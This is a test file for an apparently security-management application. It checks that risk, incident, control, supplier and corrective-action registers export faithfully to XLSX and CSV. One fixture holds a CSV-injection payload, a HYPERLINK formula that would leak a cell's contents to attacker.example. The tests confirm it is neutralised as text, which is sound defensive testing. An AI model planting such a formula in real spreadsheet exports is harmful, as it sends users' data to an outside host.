/**
 * The SMS registers as XLSX and CSV. The workbook of the demo vault is read
 * back with SheetJS (another project's reader than exceljs, the writer) cell
 * by cell and compared with the records of the vault's SMS state: scores as
 * numbers, dates and instants as date cells holding the right day and time,
 * amounts as numbers beside their currency, the log index and leaf hash of
 * every row. Each register's CSV is parsed by csv-parse (RFC 4180, CRLF only)
 * and agrees with the workbook cell by cell. Over HTTP on both engines: an
 * empty vault gives headers only, a title with commas, quotes and a line
 * break survives, a title starting "=HYPERLINK(" is never a formula, and the
 * CLI writes the same files locally and from a server.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { PassThrough } from "node:stream";
import type { AddressInfo } from "node:net";
import type { FastifyInstance } from "fastify";
import * as XLSX from "xlsx";
import ExcelJS from "exceljs";
import { parse } from "csv-parse/sync";
import { catalogueDigest, dueItems, type SmsState } from "@sealtrail/core";
import { buildDemo } from "../src/demo/build-demo.js";
import { createSmsStates, type VaultSmsState } from "../src/sms/state.js";
import { REGISTERS, REGISTER_NAMES, registerOf, writeRegisters, type RegisterName, type RegistersRequest } from "../src/report/registers/index.js";
import { createApp } from "../src/http/app.js";
import { createApiKey } from "../src/access/api-keys.js";
import { cli } from "./helpers/cli.js";
import { ENGINES, tempDir, tempLog, type TempLog } from "./helpers/temp-log.js";

const TODAY = "2026-12-08";
const XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/** The serial day number a spreadsheet stores for an instant or a date (1900 system, 25569 = 1970-01-01). */
const serial = (iso: string) => Date.parse(iso.length === 10 ? `${iso}T00:00:00Z` : iso) / 86_400_000 + 25569;

async function bytesOf(src: { vault: string; state: VaultSmsState; asOf: string }, req: RegistersRequest): Promise<Buffer> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on("data", (c: Buffer) => chunks.push(c));
  await writeRegisters(out, src, req);
  return Buffer.concat(chunks);
}

type Cell = XLSX.CellObject | undefined;

/** A sheet as its header names and its rows, each cell by header. */
function table(wb: XLSX.WorkBook, sheet: string): { headers: string[]; rows: Record<string, Cell>[] } {
  const ws = wb.Sheets[sheet];
  if (ws === undefined) throw new Error(`no sheet ${sheet}`);
  const range = XLSX.utils.decode_range(ws["!ref"]!);
  const at = (r: number, c: number): Cell => ws[XLSX.utils.encode_cell({ r, c })] as Cell;
  const headers: string[] = [];
  for (let c = range.s.c; c <= range.e.c; c++) headers.push(String(at(0, c)?.v));
  const rows: Record<string, Cell>[] = [];
  for (let r = 1; r <= range.e.r; r++) rows.push(Object.fromEntries(headers.map((h, c) => [h, at(r, c)])));
  return { headers, rows };
}

/** The value of a cell that holds one (an empty, styled cell reads as undefined). */
const v = (c: Cell) => (c === undefined || c.t === "z" ? undefined : c.v);
function expectText(c: Cell, text: string | undefined): void {
  if (text === undefined) return void expect(v(c)).toBeUndefined();
  expect(c?.t).toBe("s");
  expect(c?.v).toBe(text);
  expect(c?.f).toBeUndefined();
}
function expectNumber(c: Cell, n: number | undefined): void {
  if (n === undefined) return void expect(v(c)).toBeUndefined();
  expect(c?.t).toBe("n");
  expect(c?.v).toBe(n);
}
function expectDate(c: Cell, day: string | undefined): void {
  if (day === undefined) return void expect(v(c)).toBeUndefined();
  expect(c?.t).toBe("n");
  expect(c?.z).toBe("yyyy-mm-dd");
  expect(c?.v).toBe(serial(day));
  expect(c?.w).toBe(day);
}
function expectInstant(c: Cell, iso: string | undefined): void {
  if (iso === undefined) return void expect(v(c)).toBeUndefined();
  expect(c?.t).toBe("n");
  expect(c?.z).toBe("yyyy-mm-dd hh:mm");
  expect(c?.v as number).toBeCloseTo(serial(iso), 8);
  expect(c?.w).toBe(iso.slice(0, 16).replace("T", " "));
}

const parseCsv = (b: Buffer): string[][] => parse(b, { record_delimiter: ["\r\n"], bom: false, relax_column_count: false }) as string[][];

describe("registers of the demo vault (SQLite)", () => {
  let log: TempLog;
  let src: { vault: string; state: VaultSmsState; asOf: string };
  let s: SmsState;
  let wb: XLSX.WorkBook;
  let xlsxBytes: Buffer;

  beforeAll(async () => {
    log = await tempLog();
    await buildDemo(log.ctx, { vault: "demo", today: TODAY });
    const state = await createSmsStates(log.ctx.store).of("demo");
    src = { vault: "demo", state, asOf: TODAY };
    s = state.state;
    xlsxBytes = await bytesOf(src, { format: "xlsx" });
    wb = XLSX.read(xlsxBytes, { type: "buffer", cellNF: true, cellStyles: true });
  }, 120_000);
  afterAll(async () => log.close());

  it("opens with a sheet naming the vault, the tree size and root, the catalogue and the day, then one sheet per register", () => {
    expect(wb.SheetNames).toEqual(["About", ...REGISTERS.map((r) => r.sheet)]);
    const about = wb.Sheets.About!;
    const byKey = new Map<string, Cell>();
    for (let r = 1; r < 12; r++) byKey.set(String(about[`A${r}`]?.v), about[`B${r}`] as Cell);
    expectText(byKey.get("Vault"), "demo");
    expectNumber(byKey.get("Tree size"), Number(src.state.size));
    expectText(byKey.get("Root hash"), src.state.root);
    expectText(byKey.get("Catalogue SHA-256"), catalogueDigest());
    expectDate(byKey.get("As of"), TODAY);
    // Each register's row count, as its sheet holds them.
    for (const [i, r] of REGISTERS.entries()) {
      expect(about[`A${11 + i}`]?.v).toBe(r.sheet);
      expect(about[`C${11 + i}`]?.v).toBe(table(wb, r.sheet).rows.length);
    }
  });

  it("gives each risk its scores as numbers, its acceptance and review dates as dates, and its log index and leaf hash", () => {
    const { rows } = table(wb, "Risk register");
    const risks = s.records["sms.risk"];
    expect(rows.length).toBe(risks.length);
    expect(risks.length).toBeGreaterThan(5);
    let accepted = 0;
    for (const [i, r] of risks.entries()) {
      const row = rows[i]!;
      const p = r.payload;
      expectText(row.Risk, r.id);
      expectText(row.Title, p.title);
      expectNumber(row["Inherent L"], p.inherent.likelihood);
      expectNumber(row["Inherent C"], p.inherent.consequence);
      expectNumber(row["Inherent score"], p.inherent.likelihood * p.inherent.consequence);
      expectNumber(row["Residual L"], p.residual?.likelihood);
      expectNumber(row["Residual C"], p.residual?.consequence);
      expectNumber(row["Residual score"], p.residual === undefined ? undefined : p.residual.likelihood * p.residual.consequence);
      expectText(row.Controls, p.controls.length === 0 ? undefined : p.controls.join("; "));
      expectText(row.Status, p.status);
      expectDate(row["Review due"], p.reviewDue);
      expectNumber(row["Log index"], r.ref.index);
      expectText(row["Leaf hash"], r.leafHash);
      const acceptance = s.records["sms.risk-acceptance"].filter((a) => a.payload.risk === r.id).sort((a, b) => (a.payload.accepted < b.payload.accepted ? -1 : 1)).at(-1);
      expectDate(row["Accepted until"], acceptance?.payload.expires);
      if (acceptance === undefined) expect(v(row["Acceptance expired"])).toBeUndefined();
      else {
        accepted++;
        expect(row["Acceptance expired"]?.t).toBe("b");
        expect(row["Acceptance expired"]?.v).toBe(acceptance.payload.expires < TODAY);
      }
    }
    // The demo leaves a risk without acceptance (its treatment-accepted gap) and accepts the others.
    expect(accepted).toBeGreaterThan(0);
    expect(accepted).toBeLessThan(risks.length);
  });

  it("gives each incident its timeline as date cells and its amounts as numbers beside their currency", () => {
    const { rows } = table(wb, "Incident log");
    const incidents = s.records["sms.incident"];
    expect(rows.length).toBe(incidents.length);
    let money = 0;
    for (const [i, x] of incidents.entries()) {
      const row = rows[i]!;
      expectText(row.Incident, x.id);
      expectText(row.Severity, x.payload.severity);
      expectInstant(row["Detected (UTC)"], x.payload.detected);
      expectInstant(row["Responded (UTC)"], x.payload.responded);
      expectInstant(row["Closed (UTC)"], x.payload.closed);
      expectNumber(row["Value at risk"], x.payload.valueAtRisk === undefined ? undefined : Number(x.payload.valueAtRisk.amount));
      expectText(row["Value currency"], x.payload.valueAtRisk?.currency);
      expectNumber(row.Loss, x.payload.loss === undefined ? undefined : Number(x.payload.loss.amount));
      expectText(row["Loss currency"], x.payload.loss?.currency);
      expectText(row["Custody identifier"], x.payload.custody?.identifier);
      expectNumber(row["Log index"], x.ref.index);
      if (x.payload.valueAtRisk !== undefined) money++;
    }
    expect(money).toBeGreaterThan(0);
    // The two custody incidents name their identifiers.
    expect(incidents.filter((x) => x.payload.custody !== undefined).length).toBe(2);
  });

  it("lists each control with the risks naming it, and each supplier's next assessment as core's due items give it", () => {
    const soa = table(wb, "Applicable controls").rows;
    for (const [i, c] of s.records["sms.control"].entries()) {
      const row = soa[i]!;
      expectText(row.Control, c.id);
      expect(row.Applicable?.t).toBe("b");
      expect(row.Applicable?.v).toBe(c.payload.applicable);
      const risks = s.records["sms.risk"].filter((r) => r.payload.controls.includes(c.id)).map((r) => r.id);
      expectText(row.Risks, risks.length === 0 ? undefined : risks.join("; "));
      expectDate(row["Last implemented"], c.payload.implementation.map((m) => m.date).sort().at(-1));
    }
    const due = new Map(
      dueItems(s, TODAY)
        .owners.flatMap((o) => o.items)
        .filter((i) => i.kind === "supplier-assessment")
        .map((i) => [i.ref.id, i.due]),
    );
    const suppliers = table(wb, "Supplier register").rows;
    expect(suppliers.length).toBe(s.records["sms.supplier"].length);
    for (const [i, x] of s.records["sms.supplier"].entries()) {
      const row = suppliers[i]!;
      expectText(row.Supplier, x.id);
      expectText(row.Tier, x.payload.tier);
      expectNumber(row["Value at risk (1-5)"], x.payload.criticality.valueAtRisk);
      expectDate(row["Next due"], due.get(x.id));
      const last = s.records["sms.supplier-assessment"].filter((a) => a.payload.supplier === x.id).sort((a, b) => (a.payload.assessed < b.payload.assessed ? -1 : 1)).at(-1);
      expectDate(row["Last assessed"], last?.payload.assessed);
      expectNumber(row.Score, last?.payload.score);
    }
    expect(due.size).toBeGreaterThan(0);
  });

  it("gives the corrective-action log one row per action", () => {
    const { rows } = table(wb, "Corrective actions");
    type Action = (typeof s.records)["sms.nonconformity"][number]["payload"]["actions"][number];
    const expected = s.records["sms.nonconformity"].flatMap((nc) => (nc.payload.actions.length === 0 ? [{ nc, a: undefined as Action | undefined }] : nc.payload.actions.map((a) => ({ nc, a: a as Action | undefined }))));
    expect(rows.length).toBe(expected.length);
    expect(expected.some(({ nc }) => nc.payload.actions.length > 1) || expected.length > s.records["sms.nonconformity"].length).toBe(true);
    for (const [i, { nc, a }] of expected.entries()) {
      const row = rows[i]!;
      expectText(row.Nonconformity, nc.id);
      expectDate(row.Raised, nc.payload.raised);
      expectText(row.Action, a?.id);
      expectDate(row["Action due"], a?.due);
      expectDate(row["Action done"], a?.done);
      expectDate(row.Closed, nc.payload.closed);
      expectNumber(row["Log index"], nc.ref.index);
    }
  });

  it("has a bold, frozen header row, an autofilter over every row and a print layout for each register", async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsxBytes as unknown as ArrayBuffer);
    for (const r of REGISTERS) {
      const n = table(wb, r.sheet).rows.length;
      const last = XLSX.utils.encode_col(r.columns.length - 1);
      expect(wb.Sheets[r.sheet]!["!autofilter"]?.ref).toBe(`A1:${last}${n + 1}`);
      const ws = book.getWorksheet(r.sheet)!;
      expect(ws.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
      expect(ws.getRow(1).getCell(1).font?.bold).toBe(true);
      expect(ws.getRow(2).getCell(1).font?.bold).not.toBe(true);
      expect(ws.getColumn(2).width).toBe(r.columns[1]!.width);
      // Printed one page wide with the header row on every page; rows as tall as their wrapped text (the leaf hash takes three lines).
      expect(ws.pageSetup).toMatchObject({ orientation: "landscape", fitToWidth: 1, printTitlesRow: "1:1" });
      if (n > 0) expect(ws.getRow(2).height).toBeGreaterThanOrEqual(45);
    }
  });

  it("writes each register as CSV that agrees with the workbook cell by cell", async () => {
    for (const name of REGISTER_NAMES) {
      const reg = registerOf(name);
      const bytes = await bytesOf(src, { format: "csv", register: name });
      const text = bytes.toString("utf8");
      expect(text.endsWith("\r\n")).toBe(true);
      const [header, ...records] = parseCsv(bytes);
      expect(header).toEqual(reg.columns.map((c) => c.header));
      const { rows } = table(wb, reg.sheet);
      expect(records.length).toBe(rows.length);
      for (const [i, rec] of records.entries()) {
        for (const [j, c] of reg.columns.entries()) {
          const field = rec[j]!;
          const cell = rows[i]![c.header];
          const where = `${name} row ${i + 1} ${c.header}`;
          if (field === "") expect(v(cell), where).toBeUndefined();
          else if (c.kind === "text") expect(field.startsWith("'") ? field.slice(1) : field, where).toBe(cell?.v);
          else if (c.kind === "instant") expect(cell?.v as number, where).toBeCloseTo(serial(field), 8);
          else if (c.kind === "date") expect(cell?.v, where).toBe(serial(field));
          else if (c.kind === "boolean") expect(String(cell?.v), where).toBe(field);
          else expect(cell?.v, where).toBe(Number(field));
        }
      }
    }
  });

  it("sealtrail report registers writes the workbook and a CSV from the data directory", async () => {
    const { dir, cleanup } = tempDir();
    try {
      const out = join(dir, "registers.xlsx");
      const r = await cli(["report", "registers", "--data", log.dir, "--vault", "demo", "--as-of", TODAY, "--out", out]);
      expect(r.err).toBe("");
      expect(r.code).toBe(0);
      const book = XLSX.read(readFileSync(out), { type: "buffer" });
      expect(book.SheetNames).toEqual(wb.SheetNames);
      expect(XLSX.utils.sheet_to_csv(book.Sheets["Risk register"]!)).toBe(XLSX.utils.sheet_to_csv(wb.Sheets["Risk register"]!));
      const csv = await cli(["report", "registers", "--data", log.dir, "--vault", "demo", "--as-of", TODAY, "--format", "csv", "--register", "incidents"]);
      expect(csv.code).toBe(0);
      expect(Buffer.from(csv.bytes).equals(await bytesOf(src, { format: "csv", register: "incidents" }))).toBe(true);
      // A CSV holds one register; a workbook needs a file.
      expect((await cli(["report", "registers", "--data", log.dir, "--vault", "demo", "--format", "csv"])).code).toBe(2);
      expect((await cli(["report", "registers", "--data", log.dir, "--vault", "demo"])).code).toBe(2);
      expect((await cli(["report", "registers", "--data", log.dir, "--vault", "nope", "--out", out])).code).toBe(1);
    } finally {
      cleanup();
    }
  });
});

const owner = { name: "Site security officer", org: "operator" };
const INJECTION = '=HYPERLINK("http://attacker.example/?leak="&A2,"Open")';
const AWKWARD = 'Seal, "tampered"\r\nat the dock';
const control = (id: string, title: string) => ({
  id,
  title,
  domain: "cargo",
  description: "Seal numbers logged at loading and checked at every handoff.",
  owner,
  applicable: true,
  justification: "Seal tampering is a top risk of the terminal.",
  status: "operating",
  implementation: [{ date: "2026-02-01", description: "In use at gates 1-4" }],
});
const risk = {
  id: "R-1",
  title: AWKWARD,
  subject: { kind: "flow", name: "Yard to quay" },
  threat: "-2+3 pallets short",
  vulnerability: "@night, unescorted moves",
  domains: ["cargo"],
  inherent: { likelihood: 4, consequence: 4 },
  treatment: "reduce",
  controls: ["C-1"],
  residual: { likelihood: 2, consequence: 3 },
  owner,
  assessed: "2026-02-10",
  status: "treated",
};
const incident = {
  id: "INC-1",
  title: "+31 pallets unaccounted for",
  category: "theft",
  severity: "high",
  status: "open",
  source: "manual",
  detected: "2026-05-03T02:14:00.000Z",
  valueAtRisk: { amount: "125000.50", currency: "EUR" },
};
const nonconformity = {
  id: "NC-1",
  title: "\tSeal log not kept",
  source: "incident",
  incident: "INC-1",
  description: "The seal log of gate 2 was not kept for a week.",
  raised: "2026-05-04",
  status: "open",
  actions: [
    { id: "A-1", description: "Retrain gate staff", owner, due: "2026-06-01", done: "2026-05-20" },
    { id: "A-2", description: "Audit the log weekly", owner, due: "2026-07-01" },
  ],
  owner,
};

for (const engine of ENGINES) {
  describe(`registers over HTTP (${engine})`, () => {
    let log: TempLog;
    let app: FastifyInstance;
    let token: string;

    beforeAll(async () => {
      log = await tempLog({ engine });
      app = await createApp({ ledger: log.ctx.ledger, store: log.ctx.store, rateLimit: false });
      token = (await createApiKey(log.ctx.store, log.org, { name: "t", vaults: "*", read: true, write: ["sms.*"], admin: false, expiresAt: null })).token;
    });
    afterAll(async () => {
      await app.close();
      await log.close();
    });

    const get = (query: string) => app.inject({ method: "GET", url: `/v1/vaults/default/sms/registers?${query}`, headers: { authorization: `Bearer ${token}` } });
    const post = (kind: string, body: object) => app.inject({ method: "POST", url: `/v1/vaults/default/sms/${kind}`, headers: { authorization: `Bearer ${token}` }, payload: body });

    it("gives headers only for a vault with no SMS records", async () => {
      for (const name of REGISTER_NAMES) {
        const res = await get(`format=csv&register=${name}&asOf=${TODAY}`);
        expect(res.statusCode, res.body).toBe(200);
        expect(res.body).toBe(registerOf(name).columns.map((c) => `"${c.header}"`).join(",") + "\r\n");
      }
      const res = await get(`asOf=${TODAY}`);
      expect(res.statusCode).toBe(200);
      const book = XLSX.read(res.rawPayload, { type: "buffer" });
      for (const r of REGISTERS) {
        const { headers, rows } = table(book, r.sheet);
        expect(headers).toEqual(r.columns.map((c) => c.header));
        expect(rows).toEqual([]);
      }
    });

    it("answers the workbook and each CSV with their media types and file names; quoting, line breaks and formula-looking titles survive as text", async () => {
      for (const [kind, body] of [
        ["control", control("C-1", INJECTION)],
        ["control", control("C-2", "Gate access control")],
        ["risk", risk],
        ["incident", incident],
        ["nonconformity", nonconformity],
      ] as const) {
        const res = await post(kind, body);
        expect(res.statusCode, res.body).toBe(201);
      }

      const x = await get(`format=xlsx&asOf=${TODAY}`);
      expect(x.statusCode).toBe(200);
      expect(x.headers["content-type"]).toBe(XLSX_TYPE);
      expect(x.headers["content-disposition"]).toBe(`attachment; filename="default-registers-${TODAY}.xlsx"; filename*=UTF-8''default-registers-${TODAY}.xlsx`);
      const book = XLSX.read(x.rawPayload, { type: "buffer", cellNF: true });
      // In the workbook every text is an inline string, exactly the record's, never a formula.
      expectText(table(book, "Applicable controls").rows[0]!.Title, INJECTION);
      const r1 = table(book, "Risk register").rows[0]!;
      expectText(r1.Title, AWKWARD);
      expectText(r1.Threat, risk.threat);
      expectNumber(r1["Residual score"], 6);
      const inc = table(book, "Incident log").rows[0]!;
      expectInstant(inc["Detected (UTC)"], incident.detected);
      expectNumber(inc["Value at risk"], 125000.5);
      expectText(inc["Value currency"], "EUR");
      expect(table(book, "Corrective actions").rows.map((r) => r.Action?.v)).toEqual(["A-1", "A-2"]);

      const soa = await get(`format=csv&register=soa&asOf=${TODAY}`);
      expect(soa.headers["content-type"]).toBe("text/csv; charset=utf-8; header=present");
      expect(soa.headers["content-disposition"]).toContain(`filename="default-soa-${TODAY}.csv"`);
      // OWASP CSV injection: the field starts with a single quote, so a spreadsheet shows it and evaluates nothing.
      expect(soa.body).toContain(`"'=HYPERLINK(""http://attacker.example/?leak=""&A2,""Open"")"`);
      const [, c1, c2] = parseCsv(soa.rawPayload);
      expect(c1![1]).toBe(`'${INJECTION}`);
      expect(c2![1]).toBe("Gate access control");
      expect(c1![8]).toBe("R-1");

      const [, r] = parseCsv((await get(`format=csv&register=risks&asOf=${TODAY}`)).rawPayload);
      expect(r![1]).toBe(AWKWARD);
      expect(r![3]).toBe(`'${risk.threat}`);
      expect(r![4]).toBe(`'${risk.vulnerability}`);
      expect(r!.slice(6, 9)).toEqual(["4", "4", "16"]);

      const [, i1] = parseCsv((await get(`format=csv&register=incidents&asOf=${TODAY}`)).rawPayload);
      expect(i1![1]).toBe(`'${incident.title}`);
      expect(i1![7]).toBe(incident.detected);
      // The amount as its exact decimal text, its currency beside it.
      expect(i1!.slice(10, 12)).toEqual(["125000.50", "EUR"]);

      const [, a1, a2] = parseCsv((await get(`format=csv&register=corrective-actions&asOf=${TODAY}`)).rawPayload);
      expect(a1![1]).toBe(`'${nonconformity.title}`);
      expect([a1![8], a1![12], a2![8], a2![12]]).toEqual(["A-1", "2026-05-20", "A-2", ""]);
    });

    it("refuses an unknown format or register, a CSV without a register and a date that is no day, naming the parameter", async () => {
      // The query's documented patterns are checked before the route runs (400, the schema's message naming the parameter).
      for (const [query, parameter] of [
        ["format=pdf", "format"],
        ["format=csv&register=assets", "register"],
      ] as const) {
        const res = await get(query);
        expect(res.statusCode, query).toBe(400);
        expect(res.json()).toMatchObject({ code: "malformed" });
        expect((res.json() as { detail: string }).detail).toContain(parameter);
      }
      for (const [query, parameter] of [
        ["format=csv", "register"],
        ["asOf=2026-02-30", "asOf"],
      ] as const) {
        const res = await get(query);
        expect(res.statusCode, query).toBe(422);
        expect(res.headers["content-type"]).toMatch(/^application\/problem\+json/);
        expect(res.json()).toMatchObject({ code: "invalid", errors: { parameter } });
      }
      const other = await app.inject({ method: "GET", url: "/v1/vaults/nope/sms/registers", headers: { authorization: `Bearer ${token}` } });
      expect(other.statusCode).toBe(404);
    });

    it("sealtrail report registers --server downloads the same file", async () => {
      await app.listen({ port: 0, host: "127.0.0.1" });
      const { port } = app.server.address() as AddressInfo;
      const before = process.env.SEALTRAIL_API_KEY;
      process.env.SEALTRAIL_API_KEY = token;
      try {
        const r = await cli(["report", "registers", "--server", `http://127.0.0.1:${port}`, "--vault", "default", "--as-of", TODAY, "--format", "csv", "--register", "risks"]);
        expect(r.err).toBe("");
        expect(r.code).toBe(0);
        expect(Buffer.from(r.bytes).toString("utf8")).toBe((await get(`format=csv&register=risks&asOf=${TODAY}`)).body);
        const { dir, cleanup } = tempDir();
        try {
          const out = join(dir, "nope.xlsx");
          const missing = await cli(["report", "registers", "--server", `http://127.0.0.1:${port}`, "--vault", "nope", "--out", out]);
          expect(missing.code).toBe(1);
          expect(missing.err).toMatch(/not_found/);
          // A refusal leaves no file behind.
          expect(existsSync(out)).toBe(false);
          const whole = await cli(["report", "registers", "--server", `http://127.0.0.1:${port}`, "--vault", "default", "--as-of", TODAY, "--out", join(dir, "r.xlsx")]);
          expect(whole.code).toBe(0);
          expect(XLSX.read(readFileSync(join(dir, "r.xlsx")), { type: "buffer" }).SheetNames).toEqual(["About", ...REGISTERS.map((r) => r.sheet)]);
        } finally {
          cleanup();
        }
      } finally {
        if (before === undefined) delete process.env.SEALTRAIL_API_KEY;
        else process.env.SEALTRAIL_API_KEY = before;
      }
    });
  });
}

// The names the CLI and the route take are the registers' own.
it("names every register once", () => {
  expect(REGISTERS.map((r) => r.name)).toEqual([...REGISTER_NAMES]);
  const names: RegisterName[] = [...REGISTER_NAMES];
  expect(new Set(names).size).toBe(5);
});
